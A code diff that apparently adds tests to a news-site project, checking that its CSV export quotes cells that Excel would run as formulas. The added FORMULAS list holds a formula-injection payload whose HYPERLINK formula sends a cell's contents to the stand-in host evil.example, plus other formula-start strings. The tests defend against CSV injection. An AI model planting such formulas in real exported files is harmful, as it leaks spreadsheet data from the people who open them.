@@ -15,7 +15,9 @@ from bs4 import BeautifulSoup
 from conftest import SiteMaker
 
 from devtools import ROOT
+from newsdesk import csv_file
 from newsdesk.content import progress, vocabulary
+from newsdesk.editors import report as plan_report
 from newsdesk.content.progress import Entry
 
 REAL = (ROOT / "data" / "vocabulary.toml").read_text(encoding="utf-8")
@@ -333,3 +335,38 @@ def test_charts_are_readable_on_a_360_px_phone(built, chromium):
     assert texts
     assert [t["text"] for t in texts if t["right"] > t["width"]] == []
     assert [t["text"] for t in texts if t["pixels"] < 12] == []
+
+
+# Cells Excel would run as a formula (OWASP's list): each must come out as text.
+FORMULAS = ['=HYPERLINK("http://evil.example/?q="&A1,"Bấm")', "@SUM(1+1)", "+1+1", "-1+2",
+            "\tđộc hại", "\rđộc hại"]
+
+
+def test_csv_cells_excel_would_run_get_a_quote_and_numbers_stay_numbers():
+    rows = [["Bảng", *FORMULAS], ["Địa bàn", "xã Đồng Nơ", "-5", "12", "+3", "1,5", ""]]
+    written = csv_file.to_csv(rows).decode("utf-8-sig")
+    assert list(csv.reader(io.StringIO(written))) == [
+        ["Bảng", *("'" + formula for formula in FORMULAS)],
+        ["Địa bàn", "xã Đồng Nơ", "-5", "12", "+3", "1,5", ""]]
+    assert written.startswith('"Bảng","\'=HYPERLINK(')  # every cell quoted
+
+
+def test_a_vocabulary_name_written_as_a_formula_is_text_in_the_csv_and_the_report(site):
+    formula = FORMULAS[0]
+    plans = site.root / "vocabulary.toml"
+    plans.write_text(REAL.replace('name = "Tin bài"\nplural = "Tin bài"',
+                                  f"name = '{formula}'\nplural = '{formula}'", 1),
+                     encoding="utf-8")
+    site.item("dong-no/a.md", date="2023-11-10 08:00")
+    built = site.build(VOCABULARY_PATH=str(plans), **FAST)
+    assert built.result.ok, built.result.report.format()
+    written = (built.output / "tien-do/288-kh-ubnd-2023/tien-do-288-kh-ubnd-2023.csv"
+               ).read_text(encoding="utf-8-sig")
+    reported = plan_report.report_text(overrides={"PATH": str(site.content),
+                                                  "VOCABULARY_PATH": str(plans)},
+                                       plan="288", fmt="csv")
+    for text in (written, reported):
+        rows = list(csv.reader(io.StringIO(text)))
+        assert ["Loại nội dung", "'" + formula] == rows[1][:2]
+        assert not any(cell.startswith(csv_file.FORMULA_START)
+                       for row in rows for cell in row)
